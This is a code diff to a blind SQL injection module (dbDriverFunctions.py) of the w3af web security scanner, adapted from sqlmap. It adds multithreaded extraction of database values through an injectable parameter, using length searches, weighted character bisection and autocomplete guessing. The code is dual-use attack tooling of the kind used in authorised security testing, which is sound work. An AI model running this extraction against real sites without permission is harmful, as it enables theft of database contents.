@@ -4,6 +4,7 @@ dbDriverFunctions.py
 This file was part of sqlmap, I ( Andres Riancho ), adapted it to work with w3af.
 License: GPL v2.
 '''
+from __future__ import with_statement
 
 import core.controllers.outputManager as om
 from core.controllers.w3afException import w3afException
@@ -15,6 +16,91 @@ import urllib
 import time
 import os
 import random
+import re
+import threading
+
+# Values that are longer than this are extracted with bisectionAlgorithm()
+MAX_VALUE_LENGTH = 65536
+# The autocomplete strings are tested after finding these characters
+AUTOCOMPLETE_PREFIX = 4
+
+DIGITS = '0123456789'
+HEX_DIGITS = DIGITS + 'abcdefABCDEF'
+PRINTABLE = ''.join( chr(i) for i in xrange(32, 127) )
+
+# The weight of the characters that are not in the expected character class,
+# the ones in it have a weight of 1
+PRINTABLE_WEIGHT = 0.05
+CONTROL_WEIGHT = 0.01
+
+COUNT_RE = re.compile('\s*SELECT\s+COUNT\(', re.IGNORECASE)
+
+
+def char_weights(charset):
+    '''
+    @return: A list with the weight of each character code (0-127) for a
+    character that is expected to be in charset.
+    '''
+    weights = [CONTROL_WEIGHT] * 128
+    for char in PRINTABLE:
+        weights[ord(char)] = PRINTABLE_WEIGHT
+    for char in charset:
+        weights[ord(char)] = 1.0
+    return weights
+
+_WEIGHTS = dict( (charset, char_weights(charset)) for charset in
+                 (DIGITS, HEX_DIGITS, PRINTABLE) )
+
+
+def guess_charset(known, expression=''):
+    '''
+    @parameter known: The characters of the value that were already found.
+    @parameter expression: The SQL expression of the value.
+    @return: The character class of the rest of the characters.
+
+    >>> guess_charset('', 'SELECT COUNT(*) FROM users') == DIGITS
+    True
+    >>> guess_charset('3f0a') == HEX_DIGITS, guess_charset('dead') == PRINTABLE
+    (True, True)
+    '''
+    if not known:
+        if COUNT_RE.match( expression ):
+            return DIGITS
+        return PRINTABLE
+    
+    if known.isdigit():
+        return DIGITS
+    
+    # Words like "deface" look like hex, there must be digits too
+    if not known.isalpha() and not known.strip( HEX_DIGITS ):
+        return HEX_DIGITS
+    
+    return PRINTABLE
+
+
+def split_point(weights, low, high):
+    '''
+    @return: The limit for the next "ord(char) > limit" probe for a character
+    that is between low and high (inclusive). The limit splits the weight of
+    the candidates in half, but it's kept in the middle half of the range so
+    a character that wasn't expected is also found in a few probes.
+
+    >>> split_point([1] * 128, 0, 127)
+    63
+    >>> split_point(char_weights(DIGITS), 0, 127)
+    54
+    '''
+    half = sum( weights[low:high + 1] ) / 2.0
+    limit = high - 1
+    accumulated = 0
+    for code in xrange(low, high):
+        accumulated += weights[code]
+        if accumulated >= half:
+            limit = code
+            break
+    
+    quarter = (high - low) / 4
+    return min( max( limit, low + quarter ), high - 1 - quarter )
 
 
 class args:
@@ -52,6 +138,10 @@ class dbDriverFunctions:
         self._load_autocomplete_strings()
         self._previous_results = []
         
+        # The requests sent by parallelBisection()
+        self._count = 0
+        self._countLock = threading.Lock()
+        
     def _load_autocomplete_strings(self):
         '''
         This will load a list of autocomplete strings that will make blind sql injection
@@ -118,7 +208,8 @@ class dbDriverFunctions:
         Connect to the target url or proxy and return the target
         url page.
         """
-        m = self._vuln.getMutant()
+        # A copy, the pages are requested by many threads at the same time
+        m = self._vuln.getMutant().copy()
         url = url_object( url )
         m.setDc( url.getQueryString() )
         m.setURL( url.uri2url() )
@@ -237,19 +328,179 @@ class dbDriverFunctions:
                             om.out.console('\rgoodSamaritan('+value+')>>>', newLine=False)
         
         self.log( 'bisectionAlgorithm final value: "' + value + '"' )
-        
-        #
-        #   I'm going to keep track of the results, and if I see one that repeats more than once,
-        #   I'm adding it to the self._autocomplete_strings list.
-        #
+        self._learnResult( value )
+        return count, value
+
+    def _learnResult(self, value):
+        '''
+        I'm going to keep track of the results, and if I see one that repeats more than once,
+        I'm adding it to the self._autocomplete_strings list.
+        '''
         if value in self._previous_results:
             self._autocomplete_strings.append(value)
             self._autocomplete_strings = list(set(self._autocomplete_strings))
         else:
             if len(value) >= 4:
                 self._previous_results.append(value)
+
+    def _query(self, url):
+        '''
+        @return: True if the response for url is the true response, the
+        request is sent again if it fails.
+        '''
+        with self._countLock:
+            self._count += 1
+        try:
+            evilResult = self.queryPage(url)
+        except w3afException:
+            with self._countLock:
+                self._count += 1
+            evilResult = self.queryPage(url)
+        return self._cmpFunction( evilResult, self.args.trueResult )
+
+    def _runParallel(self, function, argsList):
+        '''
+        Run function with all the arguments in the thread pool, and wait for
+        all of them.
+        '''
+        for args in argsList:
+            self._tm.startFunction( target=function, args=args, ownerObj=self )
+        self._tm.join( self )
+
+    def _findLength(self, lengthUrl, expr):
+        '''
+        Find the length of the value with an exponential search and then a
+        bisection, about 2 * log2(length) requests.
         
-        return count, value
+        @return: The length, or None if it's longer than MAX_VALUE_LENGTH.
+        '''
+        query = lambda n: self._query( lengthUrl % (expr, n) )
+        
+        if not query(0):
+            return 0
+        
+        # low < length <= high
+        low, high = 0, 1
+        while query(high):
+            low, high = high, high * 2 + 1
+            if low > MAX_VALUE_LENGTH:
+                return None
+        
+        while high - low > 1:
+            middle = (low + high) / 2
+            if query(middle):
+                low = middle
+            else:
+                high = middle
+        return high
+
+    def _findChar(self, baseUrl, expr, index, charset):
+        '''
+        Bisection over the character codes, weighted by the expected
+        character class: about log2(class size) + 1 requests for a character
+        in the class, and at most 17 for any character.
+        '''
+        weights = _WEIGHTS[ charset ]
+        low, high = 0, 127
+        while low < high:
+            limit = split_point( weights, low, high )
+            if self._query( baseUrl % (expr, index, 1, limit) ):
+                low = limit + 1
+            else:
+                high = limit
+        return chr(low)
+
+    def _autocomplete(self, exactEvilStm, expr, prefix, length):
+        '''
+        Test the autocomplete strings that start with prefix and have the
+        length of the value, with one request for each of them.
+        
+        @return: The string that matched, or None.
+        '''
+        for candidate in self._autocomplete_strings:
+            if len(candidate) != length or not candidate.startswith( prefix ):
+                continue
+            
+            stm = exactEvilStm % (expr, 1, length, 'repla00ce_me_please')
+            stm = stm.replace("'repla00ce_me_please'", self.unescape("'" + candidate + "'"))
+            if self._query( self.urlReplace(newValue=stm) ):
+                return candidate
+        return None
+
+    def parallelBisection(self, lengthStm, evilStm, exactEvilStm, exprs, expressions):
+        '''
+        Extract the values of many expressions at the same time: first the
+        length of each value is found, then all the characters are found in
+        parallel using the thread pool. The autocomplete strings are tested
+        after finding the first AUTOCOMPLETE_PREFIX characters.
+        
+        @parameter exprs: The unescaped expressions.
+        @parameter expressions: The original expressions, to guess the
+        character class of the values.
+        @return: A tuple with the amount of requests and the list of values.
+        '''
+        self._count = 0
+        
+        lengthUrl = self.urlReplace(newValue=lengthStm)
+        baseUrl = self.urlReplace(newValue=evilStm)
+        
+        lengths = [None] * len(exprs)
+        failed = set()
+        
+        def findLength(i):
+            try:
+                lengths[i] = self._findLength( lengthUrl, exprs[i] )
+            except w3afException:
+                failed.add( i )
+        
+        self._runParallel( findLength, [ (i,) for i in xrange(len(exprs)) ] )
+        
+        chars = [ [None] * (length or 0) for length in lengths ]
+        
+        def findChar(i, index):
+            known = ''.join( c for c in chars[i] if c is not None )
+            charset = guess_charset( known, expressions[i] )
+            try:
+                chars[i][index - 1] = self._findChar( baseUrl, exprs[i], index, charset )
+            except w3afException:
+                failed.add( i )
+        
+        def findAutocomplete(i):
+            prefix = ''.join( chars[i][:AUTOCOMPLETE_PREFIX] )
+            try:
+                match = self._autocomplete( exactEvilStm, exprs[i], prefix, lengths[i] )
+            except w3afException:
+                return
+            if match is not None:
+                chars[i][:] = list( match )
+        
+        def pending(start, end):
+            return [ (i, index + 1) for i in xrange(len(exprs)) if i not in failed
+                     for index in xrange(start, min(end, len(chars[i])))
+                     if chars[i][index] is None ]
+        
+        self._runParallel( findChar, pending(0, AUTOCOMPLETE_PREFIX) )
+        self._runParallel( findAutocomplete, [ (i,) for i in xrange(len(exprs))
+                                               if i not in failed and
+                                               (lengths[i] or 0) > AUTOCOMPLETE_PREFIX ] )
+        self._runParallel( findChar, pending(AUTOCOMPLETE_PREFIX, MAX_VALUE_LENGTH) )
+        
+        values = []
+        for i in xrange(len(exprs)):
+            if lengths[i] is None and i not in failed:
+                # Too long, or the length statement doesn't work
+                count, value = self.bisectionAlgorithm( evilStm, exactEvilStm, exprs[i] )
+                self._count += count
+            elif None in chars[i] or i in failed:
+                value = ''.join( chars[i][:chars[i].index(None)] if None in chars[i] else chars[i] )
+                value += '__incomplete exploitation__'
+            else:
+                value = ''.join( chars[i] )
+                self.log( 'parallelBisection found value: "' + value + '"' )
+                self._learnResult( value )
+            values.append( value )
+        
+        return self._count, values
 
 
     def getValue(self, expression):
@@ -280,7 +531,13 @@ class dbDriverFunctions:
             self.args.writeFile.flush()
         '''
         
-        count, value = self.bisectionAlgorithm(evilStm, exactEvilStm, expr)
+        if self._runningGS or not hasattr(self, 'createLengthStm'):
+            # The good samaritan helps with one character at a time
+            count, value = self.bisectionAlgorithm(evilStm, exactEvilStm, expr)
+        else:
+            count, values = self.parallelBisection(self.createLengthStm(), evilStm,
+                                                   exactEvilStm, [expr], [expression])
+            value = values[0]
         duration = int(time.time() - start)
 
         logMsg = "performed %d queries in %d seconds" % (count, duration)
@@ -288,6 +545,34 @@ class dbDriverFunctions:
 
         return value
 
+    def getValues(self, expressions):
+        '''
+        The same as getValue() for many expressions (for example, the rows of
+        a table), the values are extracted at the same time.
+        
+        @return: A list with the values of the expressions.
+        '''
+        if self._runningGS or not hasattr(self, 'createLengthStm'):
+            return [ self.getValue(expression) for expression in expressions ]
+        
+        if not expressions:
+            return []
+        
+        logMsg = "query: %s (and %d more)" % (expressions[0], len(expressions) - 1)
+        self.log(logMsg)
+
+        start = time.time()
+        
+        exprs = [ self.unescape(expression) for expression in expressions ]
+        count, values = self.parallelBisection(self.createLengthStm(), self.createStm(),
+                                               self.createExactStm(), exprs, expressions)
+        duration = int(time.time() - start)
+
+        logMsg = "performed %d queries in %d seconds" % (count, duration)
+        self.log(logMsg)
+
+        return values
+
 
     def parseFp(self, dbms, fingerprint):
         fp = dbms